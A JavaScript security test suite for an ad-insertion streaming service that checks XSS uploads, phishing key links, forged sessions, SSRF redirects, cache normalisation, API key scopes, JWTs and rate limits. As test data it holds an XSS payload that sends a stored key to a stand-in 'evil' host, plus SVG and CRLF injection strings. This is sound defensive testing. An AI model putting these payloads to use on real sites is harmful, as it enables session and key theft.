// The public surface as an attacker sees it, against the real local stack
// (README "Security"): stored XSS through media uploads, reserved org ids,
// internal workers reached directly, forged/expired/foreign sessions and
// out-of-order beacons, 150 tracking URLs in one delivery, a slow-body ad
// server, a redirect to loopback, unknown break ids flooding the Channel
// DO, API key scopes and revocation, JWT issuer and lifetime, cross-tenant
// counters, unsafe rendition URIs, HEAD/Range/ETag on media, rate limits.
// Each test failed on the code before this suite existed.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { spawn } from "node:child_process";
import { join } from "node:path";
import { startStack, api, http, jwt, adminToken, sessionToken, channelConfig, devVars, freePort, ORG, ROOT } from "./stack.mjs";
import { launch } from "./browser.mjs";

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
let s, tracker, trackerBase, ads, adsBase;
const beacons = []; // {path, ua}
const adHits = {};

const session = (channel, issuedS, secret) => sessionToken(channel, issuedS, secret);

before(async () => {
  tracker = createServer((req, res) => {
    beacons.push({ path: req.url, ua: req.headers["x-device-user-agent"], ip: req.headers["x-device-ip"] });
    res.writeHead(200).end("ok");
  });
  await new Promise((r) => tracker.listen(0, "127.0.0.1", r));
  trackerBase = `http://127.0.0.1:${tracker.address().port}`;
  ads = createServer((req, res) => {
    const path = req.url.split("?")[0];
    adHits[path] = (adHits[path] ?? 0) + 1;
    const xml = { "Content-Type": "application/xml" };
    if (path === "/slow-body") {
      // Headers at once, then one byte every 200 ms for 15 s.
      res.writeHead(200, xml);
      res.write('<VAST version="4.2">');
      let n = 0;
      const t = setInterval(() => {
        if (++n > 75 || res.destroyed) {
          clearInterval(t);
          res.end("</VAST>");
        } else res.write(" ");
      }, 200);
      res.on("close", () => clearInterval(t));
      return;
    }
    const port = ads.address().port;
    if (path === "/to-localhost") return res.writeHead(302, { Location: `http://localhost:${port}/inline` }).end();
    if (path === "/to-v6-loopback") return res.writeHead(307, { Location: `http://[::1]:${port}/inline` }).end();
    if (path === "/to-allowed") return res.writeHead(302, { Location: `http://127.0.0.1:${port}/inline` }).end();
    if (path === "/inline") {
      return res.writeHead(200, xml).end(`<VAST version="4.2"><Ad id="x"><InLine><AdSystem>t</AdSystem><Impression>${trackerBase}/vast-imp</Impression><Creatives><Creative id="ad1"><Linear><Duration>00:00:09.600</Duration><MediaFiles><MediaFile delivery="progressive" type="video/mp4">http://127.0.0.1:${port}/ad1.mp4</MediaFile></MediaFiles></Linear></Creative></Creatives></InLine></Ad></VAST>`);
    }
    res.writeHead(404).end();
  });
  await new Promise((r) => ads.listen(0, "127.0.0.1", r));
  adsBase = `http://127.0.0.1:${ads.address().port}`;
  const t = (ad) => ({
    // 150 impression URLs: more than one sendBatch (100 messages) holds.
    impression: Array.from({ length: 150 }, (_, i) => `${trackerBase}/imp/${i}?ad=${ad}`),
    start: [`${trackerBase}/start?ad=${ad}`],
    firstQuartile: [`${trackerBase}/q1?ad=${ad}`],
    midpoint: [`${trackerBase}/mid?ad=${ad}`],
    thirdQuartile: [`${trackerBase}/q3?ad=${ad}`],
    complete: [`${trackerBase}/complete?ad=${ad}`],
  });
  s = await startStack({ dialects: ["daterange"], fmp4: false, tracking: { ad1: t(1), ad2: t(2) } });
  // Past the default 64 URLs per event: this channel allows 150.
  const cfg = channelConfig(s.originBase, "none", { proxy_ad_segments: true, scte35_enabled: false, tracking_limits: { per_event: 150 } });
  assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/channels/tracked`, cfg)).status, 200);
  assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/channels/other`, cfg)).status, 200);
});
after(() => {
  s && s.stop();
  tracker && tracker.close();
  ads && ads.close();
});

test("media: an HTML upload is served as an attachment, never inline; nosniff everywhere; strict CSP on the dashboard", async () => {
  const html = "<script>fetch('//evil/'+localStorage.getItem('cfssai.key'))</script>";
  const put = await http(`${s.base}/api/media/${ORG}/x.html`, { method: "PUT", headers: { Authorization: `Bearer ${s.apiKey}`, "Content-Type": "text/html" }, body: html });
  assert.equal(put.status, 201, put.text());
  const r = await http(`${s.base}/media/${ORG}/x.html`);
  assert.equal(r.status, 200);
  assert.equal(r.headers["content-type"], "application/octet-stream");
  assert.equal(r.headers["content-disposition"], "attachment");
  assert.equal(r.headers["x-content-type-options"], "nosniff");
  const svg = await http(`${s.base}/api/media/${ORG}/x.svg`, { method: "PUT", headers: { Authorization: `Bearer ${s.apiKey}`, "Content-Type": "image/svg+xml" }, body: "<svg onload=alert(1)/>" });
  assert.equal(svg.status, 201);
  assert.equal((await http(`${s.base}/media/${ORG}/x.svg`)).headers["content-disposition"], "attachment");
  // Media a player fetches stays inline with its real type.
  const seg = await http(`${s.base}/media/_static/hls.min.js`);
  assert.equal(seg.headers["content-type"], "text/javascript");
  assert.equal(seg.headers["content-disposition"], undefined);
  for (const path of ["/dashboard", `/${ORG}/news/master.m3u8`, "/api/whoami", "/nope"]) {
    assert.equal((await http(s.base + path)).headers["x-content-type-options"], "nosniff", path);
  }
  const dash = await http(`${s.base}/dashboard`);
  const csp = dash.headers["content-security-policy"] ?? "";
  assert.match(csp, /script-src 'self'(;|$)/, csp);
  assert.doesNotMatch(csp, /script-src[^;]*unsafe-inline/);
  assert.doesNotMatch(dash.text(), /<script>(?!<\/script>)/, "no inline script in the dashboard");
  assert.equal((await http(`${s.base}/dashboard.js`)).status, 200);
});

test("dashboard: a #key= link never replaces the stored key unasked; the prompt names the link's org; dismissed it keeps the key, accepted it replaces it", async () => {
  // Someone else's org and an admin key of it: the phishing link's.
  assert.equal((await api(s.base, "PUT", "/api/orgs/evil", { name: "Evil" })).status, 200);
  const made = await api(s.base, "POST", "/api/orgs/evil/api-keys", { scopes: "admin", label: "phish" });
  assert.equal(made.status, 201, JSON.stringify(made.json));
  const evilKey = made.json.key;
  const browser = await launch();
  try {
    const page = await browser.newPage();
    const problems = [];
    page.on("pageerror", (e) => problems.push(e.message));
    const dialogs = [];
    let answer = false;
    page.on("dialog", async (d) => {
      dialogs.push({ type: d.type(), message: d.message() });
      await (answer ? d.accept() : d.dismiss());
    });
    const who = (org) => page.waitForFunction((o) => document.querySelector("#who")?.textContent === `org ${o}`, org, { timeout: 15_000 });
    const open = async (hash) => {
      await page.goto("about:blank");
      await page.goto(`${s.base}/dashboard${hash}`);
    };
    // The operator signs in to their org with a link (no key stored yet:
    // no question).
    await open(`#key=${encodeURIComponent(s.apiKey)}`);
    await who(ORG);
    assert.equal(dialogs.length, 0);
    // The phishing link, dismissed: the stored key stays, the fragment goes.
    await open(`#key=${encodeURIComponent(evilKey)}`);
    await who(ORG);
    assert.equal(dialogs.length, 1, JSON.stringify(dialogs));
    assert.equal(dialogs[0].type, "confirm");
    assert.match(dialogs[0].message, /org evil/);
    assert.match(dialogs[0].message, new RegExp(`org ${ORG}\\b`));
    assert.equal(await page.evaluate(() => localStorage.getItem("cfssai.key")), s.apiKey);
    assert.equal(await page.evaluate(() => location.hash), "");
    // The same key again asks nothing; a key that does not work replaces nothing.
    await open(`#key=${encodeURIComponent(s.apiKey)}`);
    await who(ORG);
    await open("#key=cfssai_not-a-key");
    await who(ORG);
    assert.equal(dialogs.length, 1, JSON.stringify(dialogs));
    assert.equal(await page.evaluate(() => localStorage.getItem("cfssai.key")), s.apiKey);
    // Accepted: replaced.
    answer = true;
    await open(`#key=${encodeURIComponent(evilKey)}`);
    await who("evil");
    assert.equal(dialogs.length, 2, JSON.stringify(dialogs));
    assert.equal(await page.evaluate(() => localStorage.getItem("cfssai.key")), evilKey);
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
  }
});

test("reserved org ids: _static, api, media, dashboard cannot be created; an org key cannot write _static/", async () => {
  for (const org of ["_static", "api", "media", "dashboard", "_anything"]) {
    const r = await api(s.base, "PUT", `/api/orgs/${org}`, { name: "x" });
    assert.equal(r.status, 400, `${org}: ${JSON.stringify(r.json)}`);
  }
  const key = await http(`${s.base}/api/media/_static/hls.min.js`, { method: "PUT", headers: { Authorization: `Bearer ${s.apiKey}` }, body: "alert(1)" });
  assert.equal(key.status, 403, key.text());
  const js = await http(`${s.base}/api/media/${ORG}/evil.js`, { method: "PUT", headers: { Authorization: `Bearer ${s.apiKey}` }, body: "alert(1)" });
  assert.equal(js.status, 201);
  const got = await http(`${s.base}/media/${ORG}/evil.js`);
  assert.equal(got.headers["content-type"], "application/octet-stream", "JS is inline only under _static/");
});

test("media: HEAD, Range (206/416) and ETag/If-None-Match", async () => {
  const body = Buffer.from(Array.from({ length: 1000 }, (_, i) => i % 256));
  assert.equal((await http(`${s.base}/api/media/${ORG}/r/seg.ts`, { method: "PUT", headers: { Authorization: `Bearer ${s.apiKey}` }, body })).status, 201);
  const url = `${s.base}/media/${ORG}/r/seg.ts`;
  const head = await http(url, { method: "HEAD" });
  assert.equal(head.status, 200);
  assert.equal(head.headers["content-type"], "video/mp2t");
  assert.equal(head.headers["accept-ranges"], "bytes");
  assert.ok(head.headers.etag, "ETag");
  const part = await http(url, { headers: { Range: "bytes=100-199" } });
  assert.equal(part.status, 206);
  assert.equal(part.headers["content-range"], "bytes 100-199/1000");
  assert.deepEqual(part.body, body.subarray(100, 200));
  const tail = await http(url, { headers: { Range: "bytes=-10" } });
  assert.equal(tail.status, 206);
  assert.deepEqual(tail.body, body.subarray(990));
  assert.equal((await http(url, { headers: { Range: "bytes=5000-" } })).status, 416);
  const full = await http(url);
  assert.equal(full.status, 200);
  assert.deepEqual(full.body, body);
  assert.equal((await http(url, { headers: { "If-None-Match": head.headers.etag } })).status, 304);
  assert.equal((await http(`${s.base}/media/${ORG}/r/missing.ts`, { method: "HEAD" })).status, 404);
});

test("internal workers refuse requests that did not come through their binding", async () => {
  const secret = devVars().INTERNAL_SECRET;
  for (const [cfg, method, path, body] of [
    ["wrangler-decision.toml", "POST", "/decision", JSON.stringify({ org: ORG, channel: "news", break_id: "x", duration_s: 30 })],
    ["wrangler-scte35-monitor.toml", "POST", "/run", undefined],
    ["wrangler-beacon.toml", "GET", "/", undefined],
  ]) {
    const port = await freePort();
    const child = spawn(join(ROOT, "node_modules/.bin/wrangler"), ["dev", "-c", cfg, "--ip", "127.0.0.1", "--port", String(port), "--persist-to", s.stateDir, "--inspector-port", String(await freePort())], { cwd: ROOT, detached: true, stdio: "ignore", env: { ...process.env, CI: "1", WRANGLER_SEND_METRICS: "false" } });
    try {
      let r;
      for (let i = 0; i < 120 && !r; i++) {
        try {
          r = await http(`http://127.0.0.1:${port}${path}`, { method, body, headers: { "Content-Type": "application/json" }, timeoutMs: 5000 });
        } catch {
          await sleep(500);
        }
      }
      assert.ok(r, `${cfg} started`);
      assert.equal(r.status, 403, `${cfg} ${path}: ${r.text()}`);
      assert.match(r.text(), /internal service/, `${cfg}: refused by the worker itself`);
      const forged = await http(`http://127.0.0.1:${port}${path}`, { method, body, headers: { "X-CF-SSAI-Internal": "x".repeat(64) } });
      assert.equal(forged.status, 403, `${cfg}: a wrong secret is refused`);
      const ok = await http(`http://127.0.0.1:${port}/healthz`, { headers: { "X-CF-SSAI-Internal": secret } });
      assert.notEqual(ok.status, 403, `${cfg}: the right secret passes`);
    } finally {
      try {
        process.kill(-child.pid, "SIGTERM");
      } catch {}
    }
  }
  // And none of them has a public URL when deployed.
  const { readFileSync } = await import("node:fs");
  for (const f of ["wrangler-decision.toml", "wrangler-scte35-monitor.toml", "wrangler-beacon.toml"]) {
    assert.match(readFileSync(join(ROOT, f), "utf8"), /^workers_dev = false$/m, f);
  }
});

test("sessions: forged, wrong-key, expired and foreign sids fire nothing; beacons only in forward order; 150 tracking URLs all delivered", async () => {
  const cue = await http(`${s.base}/cue`, { method: "POST", headers: { Authorization: `Bearer ${s.apiKey}` }, body: JSON.stringify({ channel: `${ORG}/tracked`, type: "start", duration: 30 }) });
  assert.equal(cue.status, 201, cue.text());
  const master = (await http(`${s.base}/${ORG}/tracked/master.m3u8?sid=forged-by-client`)).text();
  const variant = master.split("\n").find((l) => l.startsWith(`/${ORG}/tracked/v360/`));
  const sid = (variant.match(/sid=(s2-[0-9a-z-]+)/) || [])[1];
  assert.ok(sid, `the master mints a signed session in place of the client's: ${variant}`);
  let adLine;
  for (let i = 0; i < 30 && !adLine; i++) {
    const pl = (await http(s.base + variant)).text();
    adLine = pl.split("\n").find((l) => /\/ad\/[^/]+\/0\/\d+\/0\.ts/.test(l));
    if (!adLine) await sleep(1000);
  }
  assert.ok(adLine, "the break's first ad segment appeared");
  const seg = (pos, token) => s.base + adLine.replace(/\/0\.ts\?.*$/, `/${pos}.ts?sid=${token}`);
  const get = (pos, token, ua) => http(seg(pos, token), { headers: { "User-Agent": ua } });
  const now = Math.floor(Date.now() / 1000);
  const bad = {
    forged: "abcdef0123456789",
    "wrong-key": session(`${ORG}/tracked`, now, "k".repeat(64)),
    expired: session(`${ORG}/tracked`, now - 2 * 86400),
    foreign: session(`${ORG}/other`, now),
    future: session(`${ORG}/tracked`, now + 3600),
  };
  for (const [ua, token] of Object.entries(bad)) {
    const r = await get(0, token, ua);
    assert.equal(r.status, 302, `${ua}: the viewer still gets the segment`);
  }
  // A valid session that jumps to the ad's last segment: no complete.
  let last = 0;
  while ((await get(last + 1, sid, "probe")).status === 302 && last < 40) last++;
  assert.ok(last >= 3, `ad 0 has ${last + 1} segments`);
  const skipper = session(`${ORG}/tracked`, now);
  assert.equal((await get(last, skipper, "skipper")).status, 302);
  // The viewer plays ad 0 in order.
  const viewer = session(`${ORG}/tracked`, now);
  for (let pos = 0; pos <= last; pos++) assert.equal((await get(pos, viewer, "viewer")).status, 302);
  // Wait out batching (≤ 5 s), retries and the out-of-order wait (30 s).
  const of = (ua) => beacons.filter((b) => b.ua === ua);
  for (let i = 0; i < 40 && of("viewer").filter((b) => b.path.startsWith("/imp/")).length < 150; i++) await sleep(1000);
  await sleep(36_000);
  for (const ua of [...Object.keys(bad), "skipper"]) assert.deepEqual(of(ua).map((b) => b.path), [], `${ua} fired nothing`);
  const v = of("viewer");
  const imps = new Set(v.filter((b) => b.path.startsWith("/imp/")).map((b) => b.path.split("?")[0]));
  assert.equal(imps.size, 150, "all 150 impression URLs delivered");
  assert.equal(v.filter((b) => b.path.startsWith("/imp/")).length, 150, "each exactly once");
  for (const ev of ["start", "q1", "mid", "q3", "complete"]) {
    assert.equal(v.filter((b) => b.path.startsWith(`/${ev}?`)).length, 1, `${ev} once: ${v.map((b) => b.path).join(" ")}`);
  }
  assert.ok(v.every((b) => b.ip === "127.0.0.1"), "X-Device-IP is the runtime's CF-Connecting-IP");
});

test("sessions: one spelling per sid; the same session re-spelled (upper case, leading zero, sign) fires nothing", async () => {
  const cue = await http(`${s.base}/cue`, { method: "POST", headers: { Authorization: `Bearer ${s.apiKey}` }, body: JSON.stringify({ channel: `${ORG}/other`, type: "start", duration: 30 }) });
  assert.equal(cue.status, 201, cue.text());
  const master = (await http(`${s.base}/${ORG}/other/master.m3u8`)).text();
  const variant = master.split("\n").find((l) => l.startsWith(`/${ORG}/other/v360/`));
  let adLine;
  for (let i = 0; i < 30 && !adLine; i++) {
    const pl = (await http(s.base + variant)).text();
    adLine = pl.split("\n").find((l) => /\/ad\/[^/]+\/0\/\d+\/0\.ts/.test(l));
    if (!adLine) await sleep(1000);
  }
  assert.ok(adLine, "the break's first ad segment appeared");
  const get = (token, ua) => http(s.base + adLine.replace(/\?.*$/, `?sid=${encodeURIComponent(token)}`), { headers: { "User-Agent": ua } });
  // Issued a few seconds back if need be, so its hex time has a letter.
  let issuedS = Math.floor(Date.now() / 1000);
  while (!/[a-f]/.test(issuedS.toString(16))) issuedS--;
  const sid = session(`${ORG}/other`, issuedS);
  const [, issued, nonce, mac] = sid.split("-");
  const letter = mac.search(/[a-f]/);
  const respelled = {
    "upper-time": `s1-${issued.toUpperCase()}-${nonce}-${mac}`,
    "zero-time": `s1-0${issued}-${nonce}-${mac}`,
    "plus-time": `s1-+${issued}-${nonce}-${mac}`,
    "upper-mac": `s1-${issued}-${nonce}-${mac.toUpperCase()}`,
    "one-upper-mac": `s1-${issued}-${nonce}-${mac.slice(0, letter)}${mac[letter].toUpperCase()}${mac.slice(letter + 1)}`,
  };
  // The session itself counts once; each other spelling of it is no session.
  assert.equal((await get(sid, "spelled-canonical")).status, 302);
  for (const [ua, token] of Object.entries(respelled)) {
    assert.notEqual(token, sid);
    assert.equal((await get(token, `spelled-${ua}`)).status, 302, `${ua}: the viewer still gets the segment`);
  }
  const of = (ua) => beacons.filter((b) => b.ua === ua);
  for (let i = 0; i < 40 && of("spelled-canonical").filter((b) => b.path.startsWith("/imp/")).length < 150; i++) await sleep(1000);
  await sleep(8000);
  assert.equal(of("spelled-canonical").filter((b) => b.path.startsWith("/imp/")).length, 150, "the session's impressions, once each");
  for (const ua of Object.keys(respelled)) assert.deepEqual(of(`spelled-${ua}`).map((b) => b.path), [], `${ua} fired nothing`);
});

test("fetch: a slow-body ad server is cut at the decision budget; redirects to loopback are refused hop by hop", async () => {
  const decide = async (slug, tag) => {
    const cfg = channelConfig(s.originBase, "none", { scte35_enabled: false, vast_urls: [`${adsBase}${tag}`], decision_timeout_ms: 1000 });
    assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/channels/${slug}`, cfg)).status, 200);
    const t0 = Date.now();
    const r = await api(s.base, "POST", `/api/orgs/${ORG}/decision`, { channel: slug, break_id: `b-${Math.random()}`, duration_s: 30, cadence_ms: 1920 });
    assert.equal(r.status, 200, JSON.stringify(r.json));
    return { pod: r.json, ms: Date.now() - t0 };
  };
  const slow = await decide("slow", "/slow-body");
  assert.ok(slow.ms < 4000, `answered in ${slow.ms} ms, not after the 15 s body`);
  assert.ok(slow.pod.reasons.some((x) => /timed out|budget/.test(x)), JSON.stringify(slow.pod.reasons));
  assert.equal(slow.pod.source, "library", "the break still gets ads");
  const before = adHits["/inline"] ?? 0;
  for (const tag of ["/to-localhost", "/to-v6-loopback"]) {
    const r = await decide(`redir${tag.length}`, tag);
    assert.ok(r.pod.reasons.some((x) => x.includes("loopback/private")), `${tag}: ${JSON.stringify(r.pod.reasons)}`);
  }
  assert.equal(adHits["/inline"] ?? 0, before, "the refused hop was never fetched");
  // The same chain to an allowed host is followed (the check is per hop, not a ban on redirects).
  const ok = await decide("redir-ok", "/to-allowed");
  assert.equal(adHits["/inline"], before + 1, JSON.stringify(ok.pod.reasons));
});

test("playlist cache: no-cache headers, re-spelled or extra bw/codecs/k/sid values and path escapes share one entry; values no master writes get 400", async () => {
  const cfg = channelConfig(s.originBase, "none", { scte35_enabled: false });
  assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/channels/cachetest`, cfg)).status, 200);
  assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/channels/cacheproxy`, { ...cfg, proxy_ad_segments: true })).status, 200);
  const master = (await http(`${s.base}/${ORG}/cachetest/master.m3u8`)).text();
  const variant = master.split("\n").find((l) => l.startsWith(`/${ORG}/cachetest/v360/`));
  assert.match(variant, /\?bw=900000&codecs=avc1[^&]*&mode=ssai&sid=s2-/);
  // A request that spliced (a cache miss) says where its breaks came from;
  // one served from the location's cache does not.
  const spliced = (r) => r.headers["x-cf-ssai-breaks"] !== undefined;
  // `other` right after `canonical` filled the entry (≤ 1 s old).
  const afterFill = async (canonical, other, headers = {}) => {
    for (let i = 0; i < 20; i++) {
      const a = await http(s.base + canonical);
      assert.equal(a.status, 200, a.text());
      if (spliced(a)) return { a, b: await http(s.base + other, { headers }) };
      await sleep(250);
    }
    assert.fail(`${canonical} never filled the cache`);
  };
  const path = variant.split("?")[0];
  const query = new URLSearchParams(variant.split("?")[1]);
  const with_ = (changes) => {
    const q = new URLSearchParams(query);
    for (const [k, v] of Object.entries(changes)) q.set(k, v);
    return `${path}?${q}`;
  };
  const same = {
    "Cache-Control: no-cache": [variant, { "Cache-Control": "no-cache" }],
    "Pragma: no-cache": [variant, { Pragma: "no-cache" }],
    "Cache-Control: no-store, max-age=0": [variant, { "Cache-Control": "no-store, max-age=0" }],
    "bw with a leading zero": [with_({ bw: "0900000" })],
    "codecs re-cased and reordered": [with_({ codecs: "mp4a.40.5,AVC1.64001f" })],
    "k=muxed": [with_({ k: "muxed" })],
    "an extra parameter": [`${variant}&x=${Math.random()}`],
    "a made-up sid": [with_({ sid: "made-up" })],
    "an escaped path": [`${path.replace("index", "%69ndex")}?${query}`],
  };
  for (const [name, [other, headers]] of Object.entries(same)) {
    const { a, b } = await afterFill(variant, other, headers);
    assert.equal(b.status, 200, `${name}: ${b.text()}`);
    assert.ok(!spliced(b), `${name}: served from the cached entry, not spliced again (${b.headers["x-cf-ssai-breaks"]})`);
    assert.equal(b.text(), a.text(), name);
  }
  // A channel counting sessions: only a session we signed makes a playlist
  // per viewer; a made-up one shares the cache.
  const proxied = `/${ORG}/cacheproxy/v360/index.m3u8?bw=900000`;
  const { b } = await afterFill(proxied, `${proxied}&sid=s1-1-0000000000000000-00000000000000000000000000000000`);
  assert.ok(b.status === 200 && !spliced(b), "a made-up sid is no session: shared entry");
  for (const [bad, field] of [["k=bogus", "k:"], ["bw=abc", "bw:"], ["bw=%2B900000", "bw:"], ["bw=1&bw=2", "bw:"], ["codecs=%3Cscript%3E", "codecs:"]]) {
    const r = await http(`${s.base}${path}?${bad}`);
    assert.equal(r.status, 400, `${bad}: ${r.text()}`);
    assert.ok(JSON.parse(r.text()).error.startsWith(field), `${bad}: ${r.text()}`);
  }
});

test("unknown break ids and channels: 1,000 requests cause no Channel DO call", async () => {
  const stats = async () => (await api(s.base, "GET", `/api/orgs/${ORG}/channels/news/monitor`)).json.requests ?? {};
  // A playlist request first, so the DO exists and has served /sync or not.
  await http(`${s.base}/${ORG}/news/v360/index.m3u8`);
  const b = await stats();
  const paths = (i) => [`/${ORG}/news/interstitials/nope-${i}.json`, `/${ORG}/news/ads/nope-${i}/0.m3u8`, `/${ORG}/news/ad/nope-${i}/0/900000/0.ts?sid=x`];
  let n = 0;
  for (let i = 0; i < 334; i++) {
    for (const p of paths(i)) {
      const r = await http(s.base + p);
      assert.equal(r.status, 404, p);
      n++;
    }
  }
  assert.ok(n >= 1000);
  const a = await stats();
  assert.equal(a["/state"] ?? 0, b["/state"] ?? 0, `DO /state calls: ${JSON.stringify(b)} → ${JSON.stringify(a)}`);
  for (let i = 0; i < 50; i++) assert.equal((await http(`${s.base}/${ORG}/no-such-${i % 5}/master.m3u8`)).status, 404);
  // The counter does count: one admin read of the DO's state shows up.
  assert.equal((await api(s.base, "GET", `/api/orgs/${ORG}/channels/news/breaks`)).status, 200);
  assert.equal((await stats())["/state"] ?? 0, (a["/state"] ?? 0) + 1, "the DO counts /state calls");
});

test("API keys: scopes enforced, listed without secrets, last use recorded, revocation refuses", async () => {
  const mk = async (scopes) => (await api(s.base, "POST", `/api/orgs/${ORG}/api-keys`, { scopes, label: `test ${scopes}` })).json;
  const cue = await mk("cue");
  const read = await mk("read");
  assert.equal(cue.scopes, "cue");
  const as = (k, method, path, body) => api(s.base, method, path, body, k.key);
  assert.equal((await as(cue, "GET", `/api/orgs/${ORG}/channels`)).status, 403, "cue key cannot read");
  assert.equal((await as(cue, "POST", `/api/orgs/${ORG}/api-keys`, {})).status, 403, "cue key cannot mint keys");
  const up = await http(`${s.base}/api/media/${ORG}/y.ts`, { method: "PUT", headers: { Authorization: `Bearer ${cue.key}` }, body: "x" });
  assert.equal(up.status, 403, "cue key cannot upload");
  assert.notEqual((await as(cue, "POST", "/cue", { channel: `${ORG}/manual`, type: "stop" })).status, 403, "cue key can cue");
  assert.equal((await as(read, "GET", `/api/orgs/${ORG}/channels`)).status, 200, "read key reads");
  assert.equal((await as(read, "POST", "/cue", { channel: `${ORG}/manual`, type: "stop" })).status, 403, "read key cannot cue");
  assert.equal((await as(read, "PUT", `/api/orgs/${ORG}/channels/x`, {})).status, 403, "read key cannot write");
  assert.equal((await api(s.base, "POST", `/api/orgs/${ORG}/api-keys`, { scopes: "root" })).status, 400);
  const list = (await api(s.base, "GET", `/api/orgs/${ORG}/api-keys`)).json.items;
  const row = list.find((k) => k.id === read.id);
  assert.ok(row && row.scopes === "read" && row.last_used_ms > 0, JSON.stringify(row));
  assert.ok(list.every((k) => !("hash" in k) && !("salt" in k)), "no secrets listed");
  assert.equal((await api(s.base, "DELETE", `/api/orgs/${ORG}/api-keys/${read.id}`)).status, 200);
  assert.equal((await as(read, "GET", `/api/orgs/${ORG}/channels`)).status, 401, "revoked key refused");
  assert.equal((await api(s.base, "DELETE", `/api/orgs/${ORG}/api-keys/${read.id}`)).status, 404, "revoked once");
});

test("JWT: issuer checked, lifetime bounded; per-org counters only; /api/diag for platform admins", async () => {
  const now = Math.floor(Date.now() / 1000);
  const path = `${s.base}/api/orgs/${ORG}/channels`;
  const st = async (t) => (await http(path, { headers: { Authorization: `Bearer ${t}` } })).status;
  assert.equal(await st(jwt({ exp: now + 60, aud: "cf-ssai", org: ORG })), 200);
  assert.equal(await st(jwt({ exp: now + 60, aud: "cf-ssai", org: ORG, iss: "someone-else" })), 401);
  assert.equal(await st(jwt({ exp: now + 365 * 86400, iat: now, aud: "cf-ssai", org: ORG })), 401, "a year-long token");
  assert.equal(await st(jwt({ exp: now + 60, aud: "cf-ssai", org: ORG, scope: "cue" })), 403, "JWT scopes too");
  assert.equal((await api(s.base, "GET", `/api/orgs/${ORG}/metrics`)).json.org, ORG);
  assert.equal((await api(s.base, "GET", `/api/orgs/other-org/metrics`, undefined, s.apiKey)).status, 403, "another org's metrics");
  assert.equal((await api(s.base, "GET", `/api/orgs/other-org/metrics/openmetrics`, undefined, s.apiKey)).status, 403, "another org's scrape");
  assert.equal((await api(s.base, "GET", "/api/diag", undefined, s.apiKey)).status, 403);
  assert.equal((await api(s.base, "GET", "/api/diag", undefined, adminToken(ORG))).status, 403);
  assert.equal((await api(s.base, "GET", "/api/diag", undefined, adminToken("*"))).status, 200);
  assert.equal((await api(s.base, "GET", "/api/metrics", undefined, s.apiKey)).status, 403);
  const all = (await api(s.base, "GET", "/api/metrics", undefined, adminToken("*"))).json.items;
  assert.ok(all.some((x) => x.scope !== ORG), "platform admins see platform-wide counters");
});

test("renditions with unsafe URIs or attributes are refused at write time", async () => {
  const rendition = (over) => ({ bandwidth: 1, playlist_url: "https://x/p.m3u8", cadence_s: 1.92, segments: [{ uri: "https://x/a.ts", duration: 1.92 }], ...over });
  const ad = (r) => ({ creative_id: "c", duration_s: 1.92, cadence_ms: 1920, renditions: [r] });
  for (const over of [{ segments: [{ uri: "https://x/a.ts\r#EXT-X-ENDLIST", duration: 1.92 }] }, { playlist_url: "javascript:alert(1)" }, { codecs: 'avc1",X="' }, { init_uri: "data:x" }]) {
    const r = await api(s.base, "PUT", `/api/orgs/${ORG}/ads/evil`, ad(rendition(over)));
    assert.equal(r.status, 400, `${JSON.stringify(over)}: ${JSON.stringify(r.json)}`);
    const sl = await api(s.base, "PUT", `/api/orgs/${ORG}/slates/evil`, { renditions: [rendition(over)] });
    assert.equal(sl.status, 400, `slate ${JSON.stringify(over)}`);
  }
  assert.equal((await api(s.base, "PUT", `/api/orgs/${ORG}/ads/fine`, { ...ad(rendition({})), channel: "nowhere" })).status, 200);
});

test("rate limits: /cue per credential, failed authentication per address", async () => {
  const statuses = [];
  for (let i = 0; i < 70; i++) {
    const r = await http(`${s.base}/cue`, { method: "POST", headers: { Authorization: `Bearer ${s.apiKey}` }, body: "{}" });
    statuses.push(r.status);
  }
  assert.ok(statuses.includes(429), `429 after the /cue limit: ${statuses.join(",")}`);
  assert.equal(statuses.slice(0, 50).filter((x) => x === 429).length, 0, "not before it");
  const fails = [];
  for (let i = 0; i < 40; i++) fails.push((await http(`${s.base}/api/whoami`, { headers: { Authorization: "Bearer cfssai_0000000000000000000000000000000000000000000000ff" } })).status);
  assert.ok(fails.includes(429), `failed logins slowed: ${fails.join(",")}`);
});
